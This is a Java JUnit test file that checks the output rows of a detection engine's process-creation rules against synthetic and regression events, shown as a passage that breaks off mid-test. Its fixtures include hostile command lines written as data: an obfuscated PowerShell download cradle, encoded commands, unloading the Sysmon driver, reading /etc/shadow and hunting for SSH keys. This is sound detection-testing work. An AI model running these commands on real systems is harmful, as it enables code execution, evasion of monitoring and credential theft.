package dev.vigil.query;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.vigil.ingest.ProcessEvent;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.TreeSet;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Exact result rows of sixteen shipped detections (unmodified, shipped macros and lookups, filter macro
 * {@code search *}), window all time, zone UTC. Every case runs over one index holding ALL the real data
 * (the 129 Sigma regression events, the 40 process events of the certutil capture and Vigil's 14 bundled demo
 * events) plus the events written in the case, so a case also proves what the real data contributes.
 *
 * <p>Expected values were computed by hand from the raw events (the Sigma line numbers below are 1-based lines
 * of {@code sigma_regression_process_creation.ndjson}), never copied from Vigil's output. Over the real data
 * only three detections return rows: certutil_exe_certificate_extraction (22 rows from the capture + Sigma line
 * 26), windows_iis_components_add_new_module (5 rows from the demo samples) and
 * windows_conhost_with_headless_argument (Sigma line 39); the other cases add written events (CIM NDJSON, or
 * Sysmon EventID 1 XML for fltMC) with at least one near miss each.
 */
class DetectionResultsTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Path DEMO = Path.of("src/main/resources/dev/vigil/cli/demo");
  private static final String DEST = "wks-07.corp.local";
  private static final String USER = "CORP\\jdoe";

  /** The real data, read once: Sigma + certutil capture + the three bundled demo samples. */
  private static final List<ProcessEvent> REAL = new ArrayList<>();

  @TempDir
  static Path tmp;

  @BeforeAll
  static void readRealData() throws IOException {
    REAL.addAll(Searches.read(Searches.CONTENT.resolve("datasets/sigma_regression_process_creation.ndjson")));
    REAL.addAll(Searches.read(Searches.CONTENT.resolve("datasets/certutil_exe_certificate_extraction.raw")));
    for (String sample : List.of(
        "sysmon_eventid_1.xml.log", "security_4688.xml.log", "crowdstrike_processrollup2.json")) {
      REAL.addAll(Searches.read(DEMO.resolve(sample)));
    }
    // 129 Sigma + 20 Sysmon + 20 4688 (the 19 PowerShell 4104 text events are skipped) + 6 + 4 + 4 demo events
    assertEquals(129 + 40 + 6 + 4 + 4, REAL.size());
  }

  // ---------------------------------------------------------------------------------------------------------
  // helpers

  /** A CIM NDJSON event at an ISO-8601 UTC time; dest and user default to DEST and USER unless given. */
  private static String cim(String time, String... fieldsAndValues) {
    Map<String, Object> fields = new LinkedHashMap<>();
    fields.put("_time", time);
    fields.put("dest", DEST);
    fields.put("user", USER);
    for (int i = 0; i < fieldsAndValues.length; i += 2) {
      fields.put(fieldsAndValues[i], fieldsAndValues[i + 1]);
    }
    try {
      return JSON.writeValueAsString(fields);
    } catch (IOException e) {
      throw new AssertionError(e);
    }
  }

  /** A Sysmon EventID 1 event as one-line XML, shaped like the bundled demo sample (no '&' or '<' in values). */
  private static String sysmon(String utcTime, int pid, String image, String originalFileName, String commandLine,
      String user, String computer, int parentPid, String parentImage, String parentCommandLine) {
    return "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider "
        + "Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID>"
        + "<Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
        + "<TimeCreated SystemTime='" + utcTime.replace(' ', 'T') + "0000Z'/><EventRecordID>" + (90000 + pid)
        + "</EventRecordID><Correlation/><Execution ProcessID='3012' ThreadID='4120'/>"
        + "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>" + computer + "</Computer>"
        + "<Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data>"
        + "<Data Name='UtcTime'>" + utcTime + "</Data>"
        + "<Data Name='ProcessGuid'>{8C1B4F2A-9A00-6644-" + pid + "-000000001A00}</Data>"
        + "<Data Name='ProcessId'>" + pid + "</Data><Data Name='Image'>" + image + "</Data>"
        + "<Data Name='OriginalFileName'>" + originalFileName + "</Data>"
        + "<Data Name='CommandLine'>" + commandLine + "</Data>"
        + "<Data Name='CurrentDirectory'>C:\\Windows\\system32\\</Data><Data Name='User'>" + user + "</Data>"
        + "<Data Name='IntegrityLevel'>High</Data>"
        + "<Data Name='ParentProcessGuid'>{8C1B4F2A-9A00-6644-" + parentPid + "-000000001A00}</Data>"
        + "<Data Name='ParentProcessId'>" + parentPid + "</Data><Data Name='ParentImage'>" + parentImage + "</Data>"
        + "<Data Name='ParentCommandLine'>" + parentCommandLine + "</Data></EventData></Event>";
  }

  /** Runs the shipped detection over a fresh index of the real data plus {@code written}. */
  private static List<Row> run(String stem, List<String> written) throws IOException {
    Path dir = Files.createTempDirectory(tmp, stem);
    List<ProcessEvent> events = new ArrayList<>(REAL);
    if (!written.isEmpty()) {
      events.addAll(Searches.ndjson(written.toArray(String[]::new)));
    }
    Searches.index(dir, events);
    return Searches.run(dir, Searches.detectionSearch(stem), Searches.macros(Searches.filter(stem, "search *")),
        Searches.ALL_TIME);
  }

  private static List<Row> run(String stem, String... written) throws IOException {
    return run(stem, List.of(written));
  }

  /** Field → value pairs; a List value is a multivalue field. */
  private static Map<String, Object> row(Object... fieldsAndValues) {
    Map<String, Object> row = new LinkedHashMap<>();
    for (int i = 0; i < fieldsAndValues.length; i += 2) {
      row.put((String) fieldsAndValues[i], fieldsAndValues[i + 1]);
    }
    return row;
  }

  /** Compares the rows as maps, both sides ordered by {@code key} (row order is not what these cases test). */
  private static void assertRows(List<Map<String, Object>> expected, List<Row> actual, String key) {
    Comparator<Map<String, Object>> byKey = Comparator.comparing(m -> String.valueOf(m.get(key)));
    List<Map<String, Object>> want = expected.stream().sorted(byKey).toList();
    List<Map<String, Object>> got = actual.stream().map(Row::asMap).sorted(byKey).toList();
    assertEquals(want, got);
  }

  // ---------------------------------------------------------------------------------------------------------
  // the real data alone

  /**
   * Row counts of all 30 detections over the real data alone, by hand: certutil -exportPFX appears in the 11
   * Sysmon + 11 4688 capture events (see CertutilDetectionTest) and in Sigma line 26 (another host, 2025) = 23;
   * appcmd "install module … image": demo Sysmon pids 4312 (parent cmd.exe) and 7044 (powershell.exe) — pid 5120
   * has parent msiexec.exe, excluded — the same two runs in 4688 (0x10d8, 0x1b84; user svc_webadmin, so other
   * groups), and CrowdStrike 5548 (1432's parent iissetup.exe is excluded) = 5; conhost --headless: Sigma line 39.
   */
  @Test
  void onlyThreeDetectionsMatchTheRealDataAlone() throws IOException {
    Path dir = Files.createTempDirectory(tmp, "real");
    Searches.index(dir, REAL);
    Map<String, Integer> counts = new TreeMap<>();
    for (String stem : AllDetectionsTest.stems()) {
      int n = Searches.run(dir, Searches.detectionSearch(stem), Searches.macros(Searches.filter(stem, "search *")),
          Searches.ALL_TIME).size();
      if (n > 0) {
        counts.put(stem, n);
      }
    }
    assertEquals(Map.of("certutil_exe_certificate_extraction", 23, "windows_conhost_with_headless_argument", 1,
        "windows_iis_components_add_new_module", 5), counts);
  }

  // ---------------------------------------------------------------------------------------------------------
  // real data + written events

  /**
   * Real: Sigma line 39 (proc_creation_win_conhost_headless_powershell), CommandLine "conhost  --headless
   * powershell calc" (two spaces), Image …\conhost.exe, ParentCommandLine "\"C:\Windows\system32\cmd.exe\"",
   * ProcessId 7232, ParentProcessId 3204, UtcTime 2025-10-25 17:38:32.006 (§4.2: seconds kept).
   * Written: an upper-case run matches, as "=" and wildcards ignore case and output keeps it (§4.3);
   * "--headless" at the end of the line misses "*--headless *" (the space is part of the pattern); -ForceV1 misses.
   */
  @Test
  void conhostHeadless() throws IOException {
    List<Row> rows = run("windows_conhost_with_headless_argument",
        cim("2024-06-03T09:00:10Z", "process_name", "conhost.exe", "process_id", "1001", "parent_process_id", "1000",
            "process", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            "parent_process", "C:\\Windows\\system32\\cmd.exe"),
        cim("2024-06-03T09:00:20Z", "process_name", "conhost.exe", "process_id", "1002", "parent_process_id", "1000",
            "process", "conhost.exe --headless", "parent_process", "C:\\Windows\\system32\\cmd.exe"),
        cim("2024-06-03T09:00:30Z", "process_name", "CONHOST.EXE", "process_id", "1003", "parent_process_id", "1000",
            "process", "CONHOST.EXE --HEADLESS cmd.exe /c whoami", "parent_process", "C:\\Windows\\Explorer.EXE"));
    assertRows(List.of(
        row("dest", "ar-win-dc.attackrange.local", "user", "ATTACKRANGE\\Administrator",
            "parent_process", "\"C:\\Windows\\system32\\cmd.exe\"", "process_name", "conhost.exe",
            "process", "conhost  --headless powershell calc", "process_id", "7232", "parent_process_id", "3204",
            "count", "1", "firstTime", "2025-10-25T17:38:32", "lastTime", "2025-10-25T17:38:32"),
        row("dest", DEST, "user", USER, "parent_process", "C:\\Windows\\Explorer.EXE", "process_name", "CONHOST.EXE",
            "process", "CONHOST.EXE --HEADLESS cmd.exe /c whoami", "process_id", "1003", "parent_process_id", "1000",
            "count", "1", "firstTime", "2024-06-03T09:00:30", "lastTime", "2024-06-03T09:00:30")),
        rows, "process_id");
  }

  /**
   * The regex wants a dash, 1-2 of [Ee^], then at least one of [NnCcOoDdEeMmAa^], whitespace and 5+ base64
   * characters. Real near miss: Sigma line 72 (proc_creation_win_powershell_base64_invoke) "powershell  -exec
   * bypass -e SQBu…": "-e" is followed by a space and "-exec" by "x", so it does not match — Sigma's rule and
   * this one differ. Written: "-enc" + base64 matches; "-EncodedCommand" matches via original_file_name
   * "powershell.exe" (the macro names PowerShell.EXE) on a renamed binary (`process_powershell`, §4.3
   * case-insensitive); "-ec abc" (3 base64 characters) misses.
   */
  @Test
  void powershellEncodedCommand() throws IOException {
    List<Row> rows = run("malicious_powershell_process___encoded_command",
        cim("2024-06-03T09:01:00Z", "process_name", "powershell.exe", "original_file_name", "PowerShell.EXE",
            "parent_process_name", "cmd.exe", "process_id", "2001",
            "process", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA=="),
        cim("2024-06-03T09:01:20Z", "process_name", "updater.exe", "original_file_name", "powershell.exe",
            "parent_process_name", "WINWORD.EXE", "process_id", "2002",
            "process", "updater.exe -EncodedCommand ZQBjAGgAbwA="),
        cim("2024-06-03T09:01:40Z", "process_name", "powershell.exe", "original_file_name", "PowerShell.EXE",
            "parent_process_name", "cmd.exe", "process_id", "2003", "process", "powershell.exe -ec abc"));
    assertRows(List.of(
        row("user", USER, "process_name", "powershell.exe",
            "process", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==", "parent_process_name", "cmd.exe",
            "original_file_name", "PowerShell.EXE", "dest", DEST, "process_id", "2001", "count", "1",
            "firstTime", "2024-06-03T09:01:00", "lastTime", "2024-06-03T09:01:00"),
        row("user", USER, "process_name", "updater.exe", "process", "updater.exe -EncodedCommand ZQBjAGgAbwA=",
            "parent_process_name", "WINWORD.EXE", "original_file_name", "powershell.exe", "dest", DEST,
            "process_id", "2002", "count", "1",
            "firstTime", "2024-06-03T09:01:20", "lastTime", "2024-06-03T09:01:20")),
        rows, "process_id");
  }

  /**
   * Two runs of the same command (pids differ, pid is not a by-field) make one row: count 2, firstTime/lastTime
   * the two seconds. "setZeroData" matches "*setzerodata*" case-insensitively (§4.3). Near misses: fsutil
   * fsinfo; the same words on a cmd.exe command line (process_name must be fsutil.exe).
   */
  @Test
  void fsutilZeroingFile() throws IOException {
    String command =
        "fsutil  file setZeroData offset=0 length=524288 C:\\Users\\jdoe\\AppData\\Local\\Temp\\dropper.exe";
    String parent = "C:\\Windows\\system32\\cmd.exe /c cleanup.bat";
    List<Row> rows = run("fsutil_zeroing_file",
        cim("2024-06-03T09:02:00Z", "process_name", "fsutil.exe", "parent_process_name", "cmd.exe",
            "process_id", "3001", "process", command, "parent_process", parent),
        cim("2024-06-03T09:02:45Z", "process_name", "fsutil.exe", "parent_process_name", "cmd.exe",
            "process_id", "3002", "process", command, "parent_process", parent),
        cim("2024-06-03T09:02:50Z", "process_name", "fsutil.exe", "parent_process_name", "cmd.exe",
            "process_id", "3003", "process", "fsutil fsinfo drives", "parent_process", parent),
        cim("2024-06-03T09:02:55Z", "process_name", "cmd.exe", "parent_process_name", "explorer.exe",
            "process_id", "3004", "process", "cmd.exe /c fsutil file setzerodata offset=0 length=1 x.exe",
            "parent_process", "C:\\Windows\\Explorer.EXE"));
    assertRows(List.of(
        row("user", USER, "process_name", "fsutil.exe", "parent_process_name", "cmd.exe", "dest", DEST,
            "process", command, "parent_process", parent, "count", "2",
            "firstTime", "2024-06-03T09:02:00", "lastTime", "2024-06-03T09:02:45")),
        rows, "process");
  }

  /**
   * Written as Sysmon EventID 1 XML (§3.3: Image → process_name, Computer → dest, ParentImage's file name →
   * parent_process_name, UtcTime → _time). "fltMC.exe  unload SysmonDrv" and the lower-case "fltmc unload
   * sysmondrv" (process_name fltmc.exe) both match (§4.3); "unload WdFilter" and "fltmc filters" miss.
   * The rule ends in `table`, so the fields come in its order.
   */
  @Test
  void unloadSysmonFilterDriver() throws IOException {
    List<Row> rows = run("unload_sysmon_filter_driver",
        sysmon("2024-06-03 09:03:07.250", 3404, "C:\\Windows\\System32\\fltMC.exe", "fltMC.exe",
            "fltMC.exe  unload SysmonDrv", "CORP\\admin-jdoe", DEST, 3390, "C:\\Windows\\System32\\cmd.exe",
            "\"C:\\Windows\\system32\\cmd.exe\""),
        sysmon("2024-06-03 09:03:20.000", 3405, "C:\\Windows\\System32\\fltMC.exe", "fltMC.exe",
            "fltMC.exe  unload WdFilter", "CORP\\admin-jdoe", DEST, 3390, "C:\\Windows\\System32\\cmd.exe",
            "\"C:\\Windows\\system32\\cmd.exe\""),
        sysmon("2024-06-03 09:03:30.000", 3406, "C:\\Windows\\System32\\fltMC.exe", "fltMC.exe",
            "fltmc filters", "CORP\\admin-jdoe", DEST, 3390, "C:\\Windows\\System32\\cmd.exe",
            "\"C:\\Windows\\system32\\cmd.exe\""),
        sysmon("2024-06-03 09:04:00.999", 3407, "C:\\Windows\\System32\\fltmc.exe", "fltMC.exe",
            "fltmc unload sysmondrv", "NT AUTHORITY\\SYSTEM", "srv-02.corp.local", 612,
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop"));
    assertRows(List.of(
        row("firstTime", "2024-06-03T09:03:07", "lastTime", "2024-06-03T09:03:07", "dest", DEST,
            "user", "CORP\\admin-jdoe", "count", "1", "process_name", "fltMC.exe", "process_id", "3404",
            "parent_process_name", "cmd.exe", "process", "fltMC.exe  unload SysmonDrv"),
        row("firstTime", "2024-06-03T09:04:00", "lastTime", "2024-06-03T09:04:00", "dest", "srv-02.corp.local",
            "user", "NT AUTHORITY\\SYSTEM", "count", "1", "process_name", "fltmc.exe", "process_id", "3407",
            "parent_process_name", "powershell.exe", "process", "fltmc unload sysmondrv")),
        rows, "process_id");
    List<String> tableOrder = List.of("firstTime", "lastTime", "dest", "user", "count", "process_name", "process_id",
        "parent_process_name", "process");
    for (Row r : rows) {
      assertEquals(tableOrder, new ArrayList<>(r.asMap().keySet()));
    }
  }

  /**
   * "/U" matches the rule's pattern (a star, "/u", a star) and "-uninstall" matches
   * "*uninstall*" (§4.3 case-insensitive); the renamed binary
   * matches through original_file_name (`process_installutil`). Near misses: a /u run under C:\Windows\CCM\
   * (the quoted "*C:\\WINDOWS\\CCM\\*" is *C:\WINDOWS\CCM\* after unescaping), one whose parent is the SharePoint
   * migration installer, and a plain install (no /u: "C:\Users" has a backslash, not a slash).
   */
  @Test
  void installUtilUninstall() throws IOException {
    String installUtil = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe";
    List<Row> rows = run("windows_installutil_uninstall_option",
        cim("2024-06-03T09:05:00Z", "process_name", "InstallUtil.exe", "original_file_name", "InstallUtil.exe",
            "parent_process_name", "cmd.exe", "process_id", "5001", "parent_process_id", "5000",
            "process", installUtil + " /logfile= /LogToConsole=false /U C:\\Users\\Public\\evil.dll"),
        cim("2024-06-03T09:05:30Z", "process_name", "svchelper.exe", "original_file_name", "InstallUtil.exe",
            "parent_process_name", "powershell.exe", "process_id", "5002", "parent_process_id", "5000",
            "process", "svchelper.exe -uninstall C:\\ProgramData\\x.dll"),
        cim("2024-06-03T09:06:00Z", "process_name", "InstallUtil.exe", "original_file_name", "InstallUtil.exe",
            "parent_process_name", "ccmexec.exe", "process_id", "5003", "parent_process_id", "5000",
            "process", installUtil + " /u C:\\Windows\\CCM\\SMSCFGRC.dll"),
        cim("2024-06-03T09:06:30Z", "process_name", "InstallUtil.exe", "original_file_name", "InstallUtil.exe",
            "parent_process_name", "Microsoft.SharePoint.Migration.ClientInstaller.exe", "process_id", "5004",
            "parent_process_id", "5000", "process", installUtil + " /u C:\\Users\\Public\\spmt.dll"),
        cim("2024-06-03T09:07:00Z", "process_name", "InstallUtil.exe", "original_file_name", "InstallUtil.exe",
            "parent_process_name", "cmd.exe", "process_id", "5005", "parent_process_id", "5000",
            "process", installUtil + " C:\\Users\\Public\\app.dll"));
    assertRows(List.of(
        row("dest", DEST, "user", USER, "parent_process_name", "cmd.exe", "process_name", "InstallUtil.exe",
            "original_file_name", "InstallUtil.exe",
            "process", installUtil + " /logfile= /LogToConsole=false /U C:\\Users\\Public\\evil.dll",
            "process_id", "5001", "parent_process_id", "5000", "count", "1",
            "firstTime", "2024-06-03T09:05:00", "lastTime", "2024-06-03T09:05:00"),
        row("dest", DEST, "user", USER, "parent_process_name", "powershell.exe", "process_name", "svchelper.exe",
            "original_file_name", "InstallUtil.exe", "process", "svchelper.exe -uninstall C:\\ProgramData\\x.dll",
            "process_id", "5002", "parent_process_id", "5000", "count", "1",
            "firstTime", "2024-06-03T09:05:30", "lastTime", "2024-06-03T09:05:30")),
        rows, "process_id");
  }

  /**
   * by … _time span=1m, then `where count >=10` (§4.2). Minute 09:10 (bucket start 1717405800 =
   * 2024-06-03T09:10:00Z): 8 icacls.exe + 1 cacls.exe + 1 "xcacls.exe" (matches "XCACLS.exe", §4.3) = 10 → one
   * row; values() are sorted and distinct. Minute 09:11: 9 icacls runs → count 9, dropped.
   */
  @Test
  void excessiveCaclsUsage() throws IOException {
    String parent = "C:\\Windows\\system32\\cmd.exe /c lock.bat";
    List<String> events = new ArrayList<>();
    List<String> commands = new ArrayList<>();
    List<String> pids = new ArrayList<>();
    for (int i = 0; i < 10; i++) { // 09:10:01, :07, … :55
      String name = i < 8 ? "icacls.exe" : i == 8 ? "cacls.exe" : "xcacls.exe";
      String command = name.replace(".exe", "") + " C:\\Users\\jdoe\\Documents\\report" + i + ".docx /deny Everyone:F";
      commands.add(command);
      pids.add(String.valueOf(4101 + i));
      events.add(cim(String.format("2024-06-03T09:10:%02dZ", 1 + 6 * i), "process_name", name, "process", command,
          "process_id", String.valueOf(4101 + i), "parent_process_name", "cmd.exe", "parent_process", parent));
    }
    for (int i = 0; i < 9; i++) { // 09:11:00 … 09:11:40
      events.add(cim(String.format("2024-06-03T09:11:%02dZ", 5 * i), "process_name", "icacls.exe",
          "process", "icacls C:\\Users\\jdoe\\Pictures\\p" + i + ".jpg /grant Everyone:F",
          "process_id", String.valueOf(4201 + i), "parent_process_name", "cmd.exe", "parent_process", parent));
    }
    List<Row> rows = run("excessive_usage_of_cacls_app", events);
    assertRows(List.of(
        row("parent_process_name", "cmd.exe", "parent_process", parent, "dest", DEST, "user", USER,
            "_time", "1717405800", "process", new ArrayList<>(new TreeSet<>(commands)),
            "process_id", pids, // 4101 … 4110 sort the same as text
            "process_name", List.of("cacls.exe", "icacls.exe", "xcacls.exe"), "count", "10",
            "firstTime", "2024-06-03T09:10:01", "lastTime", "2024-06-03T09:10:55")),
        rows, "_time");
  }

  /**
   * eval process_name_length = len(process_name), endExe = substr(…, -4) == ".exe"; search length 5 AND endExe
   * (then `table`, which drops both computed fields). "a.exe" matches; "b.exe" has no process_name field, and
   * CIM takes it from the quoted first token of process (§3.2), two runs → count 2. Near misses: "ab.exe" (6),
   * "a.com" (not .exe), "A.EXE" (eval == is case-sensitive, unlike search). No real event has a 5-character
   * process name (checked: no Image/NewProcessName/ImageFileName file name of length 5).
   */
  @Test
  void singleLetterProcess() throws IOException {
    List<Row> rows = run("single_letter_process_on_endpoint",
        cim("2024-06-03T09:12:00Z", "process_name", "a.exe",
            "process", "C:\\Users\\Public\\a.exe -connect 10.1.1.5:443"),
        cim("2024-06-03T09:12:30Z", "process", "\"C:\\Temp\\b.exe\" /q"),
        cim("2024-06-03T09:13:30Z", "process", "\"C:\\Temp\\b.exe\" /q"),
        cim("2024-06-03T09:13:40Z", "process_name", "ab.exe", "process", "ab.exe"),
        cim("2024-06-03T09:13:50Z", "process_name", "a.com", "process", "a.com"),
        cim("2024-06-03T09:13:55Z", "process_name", "A.EXE", "process", "C:\\Temp\\A.EXE"));
    assertRows(List.of(
        row("count", "1", "firstTime", "2024-06-03T09:12:00", "lastTime", "2024-06-03T09:12:00", "dest", DEST,
            "user", USER, "process", "C:\\Users\\Public\\a.exe -connect 10.1.1.5:443", "process_name", "a.exe"),
        row("count", "2", "firstTime", "2024-06-03T09:12:30", "lastTime", "2024-06-03T09:13:30", "dest", DEST,
            "user", USER, "process", "\"C:\\Temp\\b.exe\" /q", "process_name", "b.exe")),
        rows, "process_name");
    for (Row r : rows) {
      assertEquals(List.of("count", "firstTime", "lastTime", "dest", "user", "process", "process_name"),
          new ArrayList<>(r.asMap().keySet()));
    }
  }

  /**
   * num_obfuscation = backticks + carets + single quotes (each mvcount(split(process, c)) - 1), kept when > 10.
   * Written: I`E`X / N`e`w / Ob`je`ct = 6 backticks + 'Down' 'loadString' 'http://…' = 6 quotes → 12;
   * p^o^w^e^r^s^h^e^l^l = 9 carets + 'x' = 2 → 11 (pwsh.exe via original_file_name pwsh.dll). Near misses:
   * 2 backticks + 8 quotes = 10 (not > 10); real Sigma line 100 (powershell -Command "Get-WinEvent -LogName
   * '…' …") has 8 single quotes and no backtick or caret.
   */
  @Test
  void powershellObfuscation() throws IOException {
    String iex =
        "powershell.exe -c \"I`E`X (N`e`w-Ob`je`ct Net.WebClient).('Down'+'loadString')('http://10.0.0.5/a')\"";
    String caret = "pwsh.exe -c p^o^w^e^r^s^h^e^l^l 'x'";
    List<Row> rows = run("malicious_powershell_process_with_obfuscation_techniques",
        cim("2024-06-03T09:14:00Z", "process_name", "powershell.exe", "original_file_name", "PowerShell.EXE",
            "parent_process_name", "explorer.exe", "parent_process", "C:\\Windows\\Explorer.EXE", "process", iex),
        cim("2024-06-03T09:14:30Z", "process_name", "updater.exe", "original_file_name", "pwsh.dll",
            "parent_process_name", "cmd.exe", "parent_process", "cmd.exe /c run.cmd", "process", caret),
        cim("2024-06-03T09:15:00Z", "process_name", "powershell.exe", "original_file_name", "PowerShell.EXE",
            "parent_process_name", "explorer.exe", "parent_process", "C:\\Windows\\Explorer.EXE",
            "process", "powershell.exe -c \"I`E`X ('a'+'b'+'c'+'d')\""));
    assertRows(List.of(
        row("user", USER, "process_name", "powershell.exe", "original_file_name", "PowerShell.EXE",
            "parent_process_name", "explorer.exe", "dest", DEST, "process", iex, "count", "1",
            "parent_process", "C:\\Windows\\Explorer.EXE",
            "firstTime", "2024-06-03T09:14:00", "lastTime", "2024-06-03T09:14:00", "num_obfuscation", "12"),
        row("user", USER, "process_name", "updater.exe", "original_file_name", "pwsh.dll",
            "parent_process_name", "cmd.exe", "dest", DEST, "process", caret, "count", "1",
            "parent_process", "cmd.exe /c run.cmd",
            "firstTime", "2024-06-03T09:14:30", "lastTime", "2024-06-03T09:14:30", "num_obfuscation", "11")),
        rows, "process_name");
  }

  /** 41 discovery commands, each matching a row of linux_tool_discovery_process.csv, 12 process names. */
  private static final List<String> DISCOVERY = List.of(
      // "cat /etc/*" (20)
      "cat /etc/passwd", "cat /etc/group", "cat /etc/shadow", "cat /etc/issue", "cat /etc/hosts",
      "cat /etc/resolv.conf", "cat /etc/crontab", "cat /etc/profile", "cat /etc/bashrc", "cat /etc/os-release",
      "cat /etc/fstab", "cat /etc/sudoers", "cat /etc/networks", "cat /etc/hostname", "cat /etc/timezone",
      "cat /etc/motd", "cat /etc/login.defs", "cat /etc/exports", "cat /etc/ssh/sshd_config", "cat /etc/cron.allow",
      // "find *" (7), "netstat*" (4), "uname -a", "uname -mrs", "id", "ps", "crontab -l", "lsof -i",
      // "iptables -L", "ifconfig", "route", "arp -e" (exact rows)
      "find / -perm -4000", "find / -perm -2000", "find / -perm -u=s", "find / -perm -g=s", "find / -name id_rsa",
      "find / -name *.conf", "find /home -name .bash_history",
      "netstat -antup", "netstat -tulpn", "netstat -antpx", "netstat -rn",
      "uname -a", "uname -mrs", "id", "ps", "crontab -l", "lsof -i", "iptables -L", "ifconfig", "route", "arp -e");

  /**
   * The inputlookup subsearch becomes an OR of Processes.process=<row> (wildcards, case-insensitive, §4.6);
   * by _time span=5m user dest; where distinct_commands > 40 AND distinct_process_names > 3. The unnamed
   * values(Processes.…) keep their names: drop_dm_object_name only renames fields that start with "Processes.".
   * web-lnx-01, bucket 09:20 (1717406400): the 41 commands at 5 s steps (09:20:00 … 09:23:20), "id" again at
   * 09:24:00 (count 42, distinct 41) and "ls -la /tmp" (no lookup row, not counted). web-lnx-02 runs the same
   * but without "arp -e": 40 distinct, not > 40.
   */
  @Test
  void suspiciousLinuxDiscovery() throws IOException {
    List<String> events = new ArrayList<>();
    for (String host : List.of("web-lnx-01", "web-lnx-02")) {
      List<String> commands = host.equals("web-lnx-01") ? DISCOVERY : DISCOVERY.subList(0, DISCOVERY.size() - 1);
      for (int i = 0; i < commands.size(); i++) {
        String time = String.format("2024-06-03T09:%02d:%02dZ", 20 + 5 * i / 60, 5 * i % 60);
        events.add(linux(host, time, commands.get(i)));
      }
      events.add(linux(host, "2024-06-03T09:24:00Z", "id"));
      events.add(linux(host, "2024-06-03T09:24:10Z", "ls -la /tmp"));
    }
    List<Row> rows = run("suspicious_linux_discovery_commands", events);
    assertRows(List.of(
        row("_time", "1717406400", "user", "www-data", "dest", "web-lnx-01", "count", "42",
            "values(Processes.process)", new ArrayList<>(new TreeSet<>(DISCOVERY)),
            "values(Processes.process_name)", List.of("arp", "cat", "crontab", "find", "id", "ifconfig", "iptables",
                "lsof", "netstat", "ps", "route", "uname"),
            "values(Processes.parent_process_name)", "bash",
            "distinct_commands", "41", "distinct_process_names", "12",
            "firstTime", "2024-06-03T09:20:00", "lastTime", "2024-06-03T09:24:00")),
        rows, "dest");
  }

  private static String linux(String host, String time, String command) {
    return cim(time, "dest", host, "user", "www-data", "process_name", command.split(" ")[0], "process", command,
        "parent_process_name", "bash", "parent_process", "/bin/bash ./recon.sh");
  }

  /**
   * by … _time span=30s; where parent_process_id_count >= 10 AND process_id_count >= 10. Bucket 09:30:00
   * (1717407000): ten cmd.exe running fork.bat each start notepad.exe (pids 6001…6010, parents 5001…5010,
   * 09:30:00 … 09:30:27). Bucket 09:31:00: ten notepads from one cmd.exe (parent 5100) → parent count 1, dropped.
   */
  @Test
  void dcratForkbomb() throws IOException {
    String parent = "C:\\Windows\\system32\\cmd.exe /c C:\\Users\\kim\\AppData\\Local\\Temp\\fork.bat";
    List<String> events = new ArrayList<>();
    List<String> pids = new ArrayList<>();
    List<String> ppids = new ArrayList<>();
    for (int i = 0; i < 10; i++) {
      pids.add(String.valueOf(6001 + i));
      ppids.add(String.valueOf(5001 + i));
      events.add(notepad(String.format("2024-06-03T09:30:%02dZ", 3 * i), 6001 + i, 5001 + i, parent));
      events.add(notepad(String.format("2024-06-03T09:31:%02dZ", 2 * i), 6101 + i, 5100, parent));
    }
    List<Row> rows = run("windows_command_shell_dcrat_forkbomb_payload", events);
    assertRows(List.of(
        row("parent_process_name", "cmd.exe", "process_name", "notepad.exe", "original_file_name", "NOTEPAD.EXE",
            "parent_process", parent, "dest", "wks-13.corp.local", "user", "CORP\\kim", "_time", "1717407000",
            "process", "notepad.exe", "parent_process_id", ppids, "process_id", pids,
            "parent_process_id_count", "10", "process_id_count", "10",
            "firstTime", "2024-06-03T09:30:00", "lastTime", "2024-06-03T09:30:27")),
        rows, "_time");
  }

  private static String notepad(String time, int pid, int ppid, String parent) {
    return cim(time, "dest", "wks-13.corp.local", "user", "CORP\\kim", "process_name", "notepad.exe",
        "original_file_name", "NOTEPAD.EXE", "process", "notepad.exe", "process_id", String.valueOf(pid),
        "parent_process_name", "cmd.exe", "parent_process", parent, "parent_process_id", String.valueOf(ppid));
  }

  /**
   * where match(process, "rundll32.+\#\d+"): the regex is case-sensitive (unlike search), so an upper-case
   * "RUNDLL32.EXE …,#1" misses. Real near misses: Sigma line 95 "rundll32.exe  '\\\\172.16.205.1\\pwn\\test.dll,0'"
   * (",0", no '#') and the capture's "rundll32.exe" cryptext.dll,CryptExtAddPFX runs. No count field in this rule.
   */
  @Test
  void rundllByOrdinal() throws IOException {
    List<Row> rows = run("rundll_loading_dll_by_ordinal",
        cim("2024-06-03T09:40:00Z", "process_name", "rundll32.exe", "original_file_name", "RUNDLL32.EXE",
            "parent_process_name", "cmd.exe", "process_id", "7001", "parent_process_id", "7000",
            "process", "rundll32.exe C:\\Users\\Public\\payload.dll,#1"),
        cim("2024-06-03T09:40:30Z", "process_name", "rundll32.exe", "original_file_name", "RUNDLL32.EXE",
            "parent_process_name", "wscript.exe", "process_id", "7002", "parent_process_id", "6999",
            "process", "\"C:\\Windows\\System32\\rundll32.exe\" \"C:\\ProgramData\\upd.dll\",#12 /s"),
        cim("2024-06-03T09:41:00Z", "process_name", "rundll32.exe", "original_file_name", "RUNDLL32.EXE",
            "parent_process_name", "cmd.exe", "process_id", "7003", "parent_process_id", "7000",
